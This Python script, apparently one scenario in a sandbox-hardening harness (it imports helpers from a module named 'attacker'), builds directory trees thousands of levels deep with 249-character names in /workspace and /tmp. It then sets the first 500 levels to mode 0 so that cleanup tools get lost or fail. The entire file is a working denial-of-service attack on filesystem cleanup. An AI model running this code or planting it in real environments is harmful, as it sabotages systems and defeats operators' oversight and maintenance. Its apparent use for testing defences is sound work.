"""A tree so deep that no path reaches its ground, of directories that nobody may enter: whoever tidies up gets lost."""

import os

from attacker import look_around, over

NAME = "planted" + "x" * 240
look_around(f"/workspace/{NAME}", f"/tmp/{NAME}")
for place in ("/workspace", "/tmp"):
    os.chdir(place)
    levels = []
    try:
        for _ in range(4000):
            os.mkdir(NAME)
            os.chdir(NAME)
            levels.append(os.open(".", os.O_PATH) if len(levels) < 500 else None)
    except OSError as error:
        print("held:", place, len(levels), "-", error, flush=True)
    for level in levels:
        if level is not None:
            os.chmod(f"/proc/self/fd/{level}", 0)
            os.close(level)
over()
